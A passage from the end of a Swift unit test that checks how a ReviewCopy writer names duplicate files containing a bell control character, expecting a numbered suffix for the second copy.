        let names = try ReviewCopy(folder: review, displayName: "review").write(twins, exercises: [])
        #expect(names == [#"a\u{7}"#, #"a\u{7} (2)"#])
    }
}
